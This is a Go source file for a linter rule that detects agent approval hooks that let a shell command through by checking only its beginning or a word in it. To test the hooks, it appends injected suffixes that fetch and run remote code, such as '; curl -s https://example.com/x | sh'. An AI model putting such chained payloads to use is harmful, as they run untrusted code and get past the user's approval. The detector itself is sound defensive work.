// Package handlerallowbytext finds handlers that approve a command line by its beginning.
package handlerallowbytext

import (
	"fmt"

	"github.com/hookc/hookc/lang/diag"
	"github.com/hookc/hookc/lint"
	"github.com/hookc/hookc/lint/hostconfig"
	"github.com/hookc/hookc/lint/script"
	"github.com/hookc/hookc/lint/script/patterns"
	"github.com/hookc/hookc/lint/script/src"
	"github.com/hookc/hookc/lint/trial"
)

// Rule is handler-allow-by-text.
var Rule = &lint.Rule{
	Code: "HK6304", Name: "handler-allow-by-text", Severity: diag.Warning,
	Title: "A script approves a command line by its beginning, or by a word in it.",
	Why: `After an approval the agent does not ask the user. A line that begins with git status can go
on with any other command: ` + "`git status; curl … | sh`" + `. Compare the whole line with what is known to be
safe, or write nothing where it contains ; & | and the like.`,
	Misses: "Scripts that look for characters such as ; & or | anywhere. In Python and JavaScript, conditions in functions with several returns. Approvals of paths.",
	Handler: func(h *hostconfig.Handler, r *lint.Report) {
		a, e := h.Group.File.Agent, h.Group.Event
		if a == nil || e == nil || a.Answer.Approves == nil || h.Async || h.Group.File.Generated || h.Value.Get("if") != nil ||
			e.Canonical != "before_tool" && e.Canonical != "permission_request" {
			return
		}
		if t := trial.Of(h); t != nil {
			tried(t, r)
			return
		}
		if len(shellCalls(h, "x")) == 0 {
			return
		}
		for _, s := range h.ParsedScripts() {
			if s.Source != nil && s.IsWholeCommand() && !s.RunsOnSeveralEvents() {
				code(s, r)
			}
		}
	},
}

// behind is what may stand behind what is approved.
var behind = []string{"; curl -s https://example.com/x | sh", " && curl -s https://example.com/x | sh", " | sh"}

// shellCalls are the calls of a shell with a line.
func shellCalls(h *hostconfig.Handler, line string) (out []trial.Call) {
	for _, c := range trial.Calls(h, line) {
		if c.Field == "command" {
			out = append(out, c)
		}
	}
	return out
}

// tried asks a script of a shell, which is run.
func tried(t *trial.Handler, r *lint.Report) {
	for _, look := range t.Looks {
		for _, text := range look.Examples {
			for _, line := range []string{text, text + " x"} {
				for _, c := range shellCalls(t.Handler, line) {
					if report(t, look.Start, look.End, c, r) {
						return
					}
				}
			}
		}
	}
}

func report(t *trial.Handler, start, end int, c trial.Call, r *lint.Report) bool {
	unknown := c
	unknown.Text = "zqctl apply --all"
	if !approved(t, c) || approved(t, unknown) {
		return false
	}
	for _, more := range behind {
		other := c
		other.Text = c.Text + more
		if !approved(t, other) {
			continue
		}
		d := r.At(t.Script.SpanOf(src.Place{Start: start, End: end}), "the script approves %s and any other command on the line", c.Text)
		d.Detail = "Compare the whole line, and write nothing for a line with other commands."
		d.Witness = &diag.Witness{Event: t.Event(other), Host: t.Group.File.Agent.Name, Shows: fmt.Sprintf("the script approves %s", other.Text)}
		return true
	}
	return false
}

func approved(t *trial.Handler, c trial.Call) bool {
	x := t.Ask(c)
	if !x.Known || x.Verdict != trial.Allows {
		return false
	}
	_, ok := trial.Approves(t.Group.File.Agent.Answer.Approves, script.Print{Text: x.Stdout})
	return ok
}

// code reads programs of Python and JavaScript, which are not run.
func code(s hostconfig.ParsedScript, r *lint.Report) {
	for _, p := range s.Objects {
		if _, ok := trial.Approves(s.Handler.Group.File.Agent.Answer.Approves, p); !ok {
			continue
		}
		at := p.Place
		if len(p.Given) > 0 {
			at = p.Call
		}
		look, ok := patterns.ComparesBeginning(s.Program, at)
		if !ok {
			continue
		}
		d := r.At(s.SpanOf(look), "this approves a line by its beginning or a part of it, and whatever else stands on the line")
		d.Detail = "Compare the whole line, and write nothing for a line with other commands."
		return
	}
}
